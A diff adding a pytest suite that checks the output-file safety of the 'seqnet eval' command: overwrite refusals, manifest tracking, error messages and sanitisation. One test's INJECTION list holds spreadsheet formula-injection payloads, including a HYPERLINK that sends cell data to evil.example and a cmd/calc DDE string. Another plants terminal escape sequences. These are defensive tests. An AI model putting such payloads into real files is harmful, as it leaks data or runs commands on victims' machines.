@@ -1,0 +1,279 @@
+"""What ``seqnet eval`` writes (all three routes): the set in ``--out DIR`` replaced whole, a user's files never
+replaced without ``--overwrite`` (refused before any work), per-query and ``--json`` files recognised as
+seqnet's before they are replaced, names from the data made safe for spreadsheets and terminals, no temporary
+folder without ``--out``, errors naming the user's paths. Kill points: tests/core/test_crash_points.py."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import tempfile
+
+import numpy as np
+import pytest
+
+import seqnet.eval.evaluate as evaluate_mod
+from seqnet.cli import main
+from seqnet.data.io import save_dataset
+from seqnet.data.synth import make_synthetic
+
+SET = ("results.json", "pr_curve.png", "report.html")
+
+
+def _one_line(capsys, argv, code, pattern):
+    capsys.readouterr()
+    assert main(argv) == code
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and pattern in err[0] and "Traceback" not in err[0], err
+    return err[0]
+
+
+@pytest.fixture
+def no_work(monkeypatch):
+    """Evaluating fails the test: what is refused must be refused before any work."""
+    def fail(*a, **k):
+        raise AssertionError("the evaluation ran")
+
+    monkeypatch.setattr(evaluate_mod, "evaluate", fail)
+
+
+@pytest.fixture
+def matrix(synth_dataset, tmp_path):
+    q, r = synth_dataset.query.descriptors, synth_dataset.reference.descriptors
+    path = tmp_path / "d.npy"
+    np.save(path, np.sqrt(((q[:, None, :] - r[None]) ** 2).sum(-1)))
+    return path
+
+
+@pytest.fixture
+def map_dir(synth_dir, tmp_path):
+    assert main(["-q", "index", "build", "--dataset", str(synth_dir), "--shortlist", "delta", "--rerank",
+                 "raw+seqmatch", "--seq-len", "4", "--out", str(tmp_path / "map")]) == 0
+    return tmp_path / "map"
+
+
+def _route(name, synth_dir, matrix_path=None, map_path=None):
+    base = ["-q", "eval", "--dataset", str(synth_dir)]
+    if name == "distances":
+        return [*base, "--distances", str(matrix_path), "--method", "single"]
+    if name == "index":
+        return [*base, "--index", str(map_path), "--method", "delta"]
+    return [*base, "--method", "single"]
+
+
+@pytest.mark.parametrize("name", SET)
+def test_a_users_file_in_out_is_refused_before_work_and_overwrite_replaces_it(synth_dir, tmp_path, capsys,
+                                                                             monkeypatch, name):
+    out = tmp_path / "ev"
+    out.mkdir()
+    (out / name).write_text("the user's own")
+    (out / "mine.txt").write_text("mine")
+    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out), "--report"]
+    with monkeypatch.context() as m:
+        m.setattr(evaluate_mod, "evaluate", lambda *a, **k: pytest.fail("the evaluation ran"))
+        _one_line(capsys, argv, 2, "was not written by seqnet")
+    assert (out / name).read_text() == "the user's own"
+    assert sorted(p.name for p in out.iterdir()) == sorted([name, "mine.txt"])  # nothing written
+    inode = (out / "mine.txt").stat().st_ino
+    assert main([*argv, "--overwrite"]) == 0
+    assert (out / name).read_bytes() != b"the user's own" and all((out / n).exists() for n in SET)
+    assert (out / "mine.txt").read_text() == "mine" and (out / "mine.txt").stat().st_ino == inode
+    assert main(argv) == 0  # seqnet's own set: replaced without --overwrite
+
+
+def test_without_report_a_users_report_stays_and_seqnets_old_report_leaves(synth_dir, tmp_path):
+    out = tmp_path / "ev"
+    base = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out)]
+    out.mkdir()
+    (out / "report.html").write_text("the user's own")
+    assert main(base) == 0  # no --report: the user's report.html is neither refused nor touched
+    assert (out / "report.html").read_text() == "the user's own"
+    assert main([*base, "--report", "--overwrite"]) == 0
+    assert "<!DOCTYPE html>" in (out / "report.html").read_text()
+    assert main(base) == 0  # seqnet's report of the earlier set would describe another evaluation: it leaves
+    assert not (out / "report.html").exists()
+    assert set(json.loads((out / ".seqnet-manifest.json").read_text())["files"]) == {"results.json", "pr_curve.png"}
+
+
+@pytest.mark.parametrize("route", ["distances", "index"])
+def test_every_route_writes_and_guards_the_whole_set(synth_dir, tmp_path, capsys, matrix, map_dir, route):
+    out = tmp_path / "ev"
+    assert main(["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out), "--report"]) == 0
+    argv = [*_route(route, synth_dir, matrix, map_dir), "--out", str(out)]
+    assert main(argv) == 0
+    assert sorted(p.name for p in out.iterdir()) == [".seqnet-manifest.json", "pr_curve.png", "results.json"]
+    assert json.loads((out / "results.json").read_text())["inputs"].get(
+        "distances" if route == "distances" else "index")
+    (out / "pr_curve.png").write_bytes(b"the user's picture")
+    os.remove(out / ".seqnet-manifest.json")  # nothing there is seqnet's any more
+    _one_line(capsys, argv, 2, "was not written by seqnet")
+    assert (out / "pr_curve.png").read_bytes() == b"the user's picture"
+    assert main([*argv, "--overwrite"]) == 0 and (out / "pr_curve.png").read_bytes().startswith(b"\x89PNG")
+
+
+def test_distances_write_the_per_query_file_and_the_report(synth_dir, synth_dataset, tmp_path, capsys, matrix):
+    out = tmp_path / "ev"
+    argv = ["eval", "--dataset", str(synth_dir), "--distances", str(matrix), "--method", "single,raw+seqmatch",
+            "--per-query", str(tmp_path / "pq.jsonl"), "--report", "--out", str(out)]
+    assert main(argv) == 0
+    assert f"report: {out / 'report.html'}" in capsys.readouterr().out
+    rows = [json.loads(line) for line in (tmp_path / "pq.jsonl").read_text().splitlines()]
+    res = json.loads((out / "results.json").read_text())["methods"]
+    assert len(rows) == 2 * (res["single"]["queries"] + res["single"]["no_positive"])
+    text = (out / "report.html").read_text()
+    assert "The given distances" in text and "<td>raw+seqmatch</td>" in text
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".txt", ""])
+def test_a_per_query_file_seqnet_did_not_write_is_refused(synth_dir, tmp_path, capsys, no_work, suffix):
+    pq = tmp_path / f"pq{suffix}"
+    if suffix:
+        pq.write_text("method,query_frame\nthe user's own\n")
+    else:
+        pq.mkdir()
+        (pq / "000.txt").write_text("ours by its name")
+        (pq / "notes.md").write_text("the user's own")
+    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--per-query", str(pq)]
+    _one_line(capsys, argv, 2, "not written by seqnet" if suffix else "file(s) seqnet did not write")
+    assert (pq / "notes.md" if not suffix else pq).read_text().endswith("the user's own\n" if suffix else "own")
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".txt"])
+def test_seqnets_own_per_query_file_is_replaced_and_overwrite_replaces_any(synth_dir, tmp_path, capsys, suffix):
+    pq = tmp_path / f"pq{suffix}"
+    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--per-query", str(pq)]
+    assert main(argv) == 0
+    first = pq.read_text()
+    if suffix == ".txt":  # MSLS predictions have no header to recognise: replaced only with --overwrite
+        _one_line(capsys, argv, 2, "has no header")
+    else:
+        assert main(argv) == 0
+    pq.write_text("the user's own")
+    _one_line(capsys, argv, 2, "not written by seqnet")
+    assert main([*argv, "--overwrite"]) == 0 and pq.read_text() == first
+
+
+def test_a_link_as_per_query_file_is_refused(synth_dir, tmp_path, capsys):
+    (tmp_path / "target.csv").write_text("method,query_frame,query_name,references,scores,correct,has_positive,"
+                                         "confidence\n")
+    (tmp_path / "pq.csv").symlink_to(tmp_path / "target.csv")
+    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single", "--per-query",
+                       str(tmp_path / "pq.csv")], 2, "not written by seqnet")
+
+
+def test_per_query_inside_out_joins_the_set(synth_dir, tmp_path, capsys):
+    out = tmp_path / "ev"
+    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out)]
+    assert main([*argv, "--per-query", str(out / "pq.csv"), "--json", str(out / "copy.json")]) == 0
+    files = json.loads((out / ".seqnet-manifest.json").read_text())["files"]
+    assert set(files) == {"results.json", "pr_curve.png", "pq.csv", "copy.json"}
+    assert json.loads((out / "copy.json").read_text()) == json.loads((out / "results.json").read_text())
+    assert main([*argv, "--per-query", str(out / "preds")]) == 0  # a predictions folder in the set
+    assert "preds/000.txt" in json.loads((out / ".seqnet-manifest.json").read_text())["files"]
+    _one_line(capsys, [*argv, "--per-query", str(out / "sub" / "pq.csv")], 2, "not directly in it")
+    _one_line(capsys, [*argv, "--json", str(out)], 2, "is the --out folder itself")
+    _one_line(capsys, [*argv, "--per-query", str(out / "pr_curve.png")], 2, "must end in")
+    _one_line(capsys, [*argv, "--json", str(out / "pr_curve.png")], 2, "writes itself")
+    (out / "mine.csv").write_text("the user's own")
+    _one_line(capsys, [*argv, "--per-query", str(out / "mine.csv")], 2, "mine.csv was not written by seqnet")
+    assert (out / "mine.csv").read_text() == "the user's own"
+
+
+def test_a_json_file_seqnet_did_not_write_is_refused(synth_dir, tmp_path, capsys, no_work):
+    (tmp_path / "r.json").write_text('{"mine": true}')
+    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single", "--json", str(tmp_path / "r.json")],
+              2, "not a results JSON written by seqnet")
+    assert (tmp_path / "r.json").read_text() == '{"mine": true}'
+
+
+def test_one_method_formats_are_refused_before_work(synth_dir, tmp_path, capsys, no_work):
+    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single,raw+seqmatch", "--per-query",
+                       str(tmp_path / "p.txt")], 2, "holds one method, got 2")
+
+
+@pytest.mark.parametrize("extra, pattern", [
+    (["--model", "m.pt"], "--distances evaluates the given matrix; drop --model"),
+    (["--backend", "torch"], "drop --backend"),
+    (["--index", "map"], "drop --index"),
+])
+def test_options_a_matrix_cannot_apply_are_refused(synth_dir, matrix, capsys, extra, pattern):
+    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--distances", str(matrix), *extra], 2, pattern)
+
+
+INJECTION = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2"]
+
+
+def test_per_query_csv_names_are_never_formulas(tmp_path):
+    ds = make_synthetic(places=200, dim=16, seed=1)
+    names = list(ds.query.names)
+    for i in range(len(names)):
+        names[i] = f"{INJECTION[i % len(INJECTION)]}{i}"
+    ds.query.names = names
+    save_dataset(ds, tmp_path / "ds")
+    pq = tmp_path / "pq.csv"
+    assert main(["-q", "eval", "--dataset", str(tmp_path / "ds"), "--method", "single", "--per-query", str(pq)]) == 0
+    rows = list(csv.DictReader(pq.open(newline="")))
+    assert rows and all(r["query_name"].startswith("'") for r in rows)  # a spreadsheet shows it as text
+    assert {r["query_name"][1:] for r in rows} <= set(names) and any(r["query_name"].startswith("'-2") for r in rows)
+
+
+def test_terminal_escapes_in_a_dataset_name_are_shown_escaped(tmp_path, capsys):
+    ds = make_synthetic(places=200, dim=16, seed=1)
+    ds.name = "evil\x1b[2J\x1b]0;title\x07name"
+    save_dataset(ds, tmp_path / "ds")
+    assert main(["eval", "--dataset", str(tmp_path / "ds"), "--method", "single"]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "evil\\x1b[2J" in out
+
+
+def test_without_out_no_temporary_folder_is_made(synth_dir, tmp_path, monkeypatch, capsys):
+    """Without --out nothing but --json is written: no temporary folder (an unusable TMPDIR does not matter,
+    a kill leaves nothing behind), and an error names the user's --json path."""
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no" / "such" / "tmp"))
+    made = []
+    real = tempfile.mkdtemp
+    monkeypatch.setattr(tempfile, "mkdtemp", lambda *a, **k: made.append(a or k) or real(*a, **k))
+    js = tmp_path / "r.json"
+    assert main(["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--json", str(js)]) == 0
+    assert json.loads(js.read_text())["methods"]["single"]["queries"] > 0 and made == []
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["ds", "r.json"]
+    real_replace = os.replace
+
+    def denied(src, dst, *a, **k):
+        if str(dst).endswith("r.json"):
+            raise PermissionError(13, "Permission denied", str(src))
+        return real_replace(src, dst, *a, **k)
+
+    monkeypatch.setattr(os, "replace", denied)
+    line = _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single", "--json", str(js)], 1,
+                     "permission denied")
+    assert str(js) in line and "seqnet-eval" not in line and ".tmp" not in line
+
+
+@pytest.mark.parametrize("fail", ["errno", "short write"])
+def test_a_failure_inside_the_new_set_names_the_users_path(synth_dir, tmp_path, capsys, monkeypatch, fail):
+    """ENOSPC while report.html is written (with an errno, or cut short without one) names DIR/report.html, not
+    the temporary folder the set is written in; the old set stays whole."""
+    import errno
+
+    import seqnet.report.html as html
+
+    out = tmp_path / "ev"
+    argv = ["eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out), "--report"]
+    assert main(["-q", *argv]) == 0
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+
+    def full(path, text):
+        if fail == "errno":
+            raise OSError(errno.ENOSPC, "No space left on device", str(path))
+        from seqnet.security.files import atomic_path
+
+        with atomic_path(path):
+            raise RuntimeError("file write failed")
+
+    monkeypatch.setattr(html, "write_text_atomic", full)
+    line = _one_line(capsys, argv, 1, "report.html")
+    assert str(out / "report.html") in line and ".seqnet-" not in line and ".tmp" not in line
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
